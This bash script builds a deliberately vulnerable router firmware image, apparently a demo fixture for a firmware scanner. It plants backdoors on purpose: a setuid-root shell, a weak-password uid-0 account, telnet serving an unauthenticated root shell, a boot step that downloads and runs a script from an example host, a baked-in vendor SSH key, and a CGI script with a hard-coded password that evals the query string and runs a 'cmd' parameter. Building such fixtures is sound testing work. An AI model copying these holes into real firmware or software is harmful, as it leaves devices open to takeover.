#!/usr/bin/env bash
# Build the demo firmware: a squashfs root filesystem laid out like a small router's, with
# Debian's static BusyBox and the classic back doors planted on purpose, so `make demo` has
# something to find. Usage: scripts/build-sample.sh OUTPUT.sqsh
set -euo pipefail

out=${1:?usage: $0 OUTPUT.sqsh}
busybox=${BUSYBOX:-/bin/busybox}
for tool in mksquashfs openssl ssh-keygen; do
    command -v "$tool" >/dev/null || { echo "build-sample: $tool is missing (run scripts/install-system.sh)" >&2; exit 3; }
done
[ -f "$busybox" ] || { echo "build-sample: $busybox is missing (apt package busybox-static)" >&2; exit 3; }

work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
root=$work/rootfs
mkdir -p "$root"/{bin,sbin,usr/bin,usr/sbin,lib,dev,proc,sys,tmp,var/run,root/.ssh,home/admin}
mkdir -p "$root"/etc/{init.d,ssl/private,config,dropbear} "$root"/www/cgi-bin
chmod 1777 "$root/tmp"

# BusyBox and its applet links, as a router's build system installs them.
cp "$busybox" "$root/bin/busybox"
chmod 0755 "$root/bin/busybox"
for applet in sh ash ls cat cp mv rm mkdir mount umount ps kill ping login passwd vi; do
    ln -s busybox "$root/bin/$applet"
done
for applet in init ifconfig route reboot syslogd klogd; do ln -s ../bin/busybox "$root/sbin/$applet"; done
for applet in telnetd httpd udhcpd; do ln -s ../../bin/busybox "$root/usr/sbin/$applet"; done
for applet in wget tftp nc; do ln -s ../../bin/busybox "$root/usr/bin/$applet"; done

# A "debug" copy of the shell left setuid-root.
cp "$busybox" "$root/usr/sbin/dbgsh"
chmod 4755 "$root/usr/sbin/dbgsh"

# Accounts: root/admin and a second uid-0 account with a weak password.
root_hash=$(openssl passwd -1 -salt rT7x admin)
support_hash=$(openssl passwd -1 -salt sP2q support)
cat >"$root/etc/passwd" <<EOF
root:x:0:0:root:/root:/bin/sh
support:x:0:0::/home/admin:/bin/sh
nobody:x:65534:65534:nobody:/nonexistent:/bin/false
EOF
cat >"$root/etc/shadow" <<EOF
root:$root_hash:19000:0:99999:7:::
support:$support_hash:19000:0:99999:7:::
nobody:*:19000:0:99999:7:::
EOF
chmod 0600 "$root/etc/shadow"
printf 'root:x:0:\nnogroup:x:65534:\n' >"$root/etc/group"

# Boot: telnet hands out a root shell without a login.
cat >"$root/etc/inittab" <<'EOF'
::sysinit:/etc/init.d/rcS
ttyS0::respawn:/bin/sh
::ctrlaltdel:/sbin/reboot
EOF
cat >"$root/etc/init.d/rcS" <<'EOF'
#!/bin/sh
mount -t proc proc /proc
mount -t sysfs sysfs /sys
ifconfig lo 127.0.0.1 up
syslogd
/usr/sbin/telnetd -l /bin/sh -p 23
/usr/sbin/httpd -h /www -p 80
wget -q -O /tmp/update.sh http://fw-update.example.net/check?model=demo && sh /tmp/update.sh
EOF
chmod 0755 "$root/etc/init.d/rcS"

# Keys: a vendor key baked into every unit, and a vendor login key for root.
openssl genpkey -algorithm RSA -pkeyopt rsa_keygen_bits:2048 -out "$root/etc/ssl/private/server.key" 2>/dev/null
ssh-keygen -q -t ed25519 -N '' -C 'support@vendor' -f "$work/vendor_key"
cp "$work/vendor_key.pub" "$root/root/.ssh/authorized_keys"
chmod 0600 "$root/root/.ssh/authorized_keys"

# Web UI with a credential in a CGI script.
cat >"$root/www/index.html" <<'EOF'
<html><head><title>Demo Router</title></head><body><form action="/cgi-bin/login.cgi">
<input name="user"><input name="pass" type="password"></form></body></html>
EOF
cat >"$root/www/cgi-bin/login.cgi" <<'EOF'
#!/bin/sh
# maintenance login kept for the support team
MAINT_USER="maint"
MAINT_PASS="Sup3rS3cret!"
eval "$(echo "$QUERY_STRING" | tr '&' ';')"
if [ "$user" = "$MAINT_USER" ] && [ "$pass" = "$MAINT_PASS" ]; then echo "Content-type: text/plain"; echo; /bin/sh -c "$cmd"; fi
EOF
chmod 0755 "$root/www/cgi-bin/login.cgi"
printf 'FW_VERSION=1.0.3\nMODEL=DEMO-R1\n' >"$root/etc/version"
# The kernel tree the vendor built against: an old stable release, so known kernel CVEs apply.
mkdir -p "$root/lib/modules/4.14.180"
printf 'kernel/net/ipv4/netfilter/ip_tables.ko:\n' >"$root/lib/modules/4.14.180/modules.dep"
printf 'Demo router firmware (built by Assay for its demo)\n' >"$root/etc/banner"

mkdir -p "$(dirname "$out")"
mksquashfs "$root" "$out" -noappend -all-root -comp xz -quiet >/dev/null
echo "built $out ($(stat -c %s "$out") bytes)"
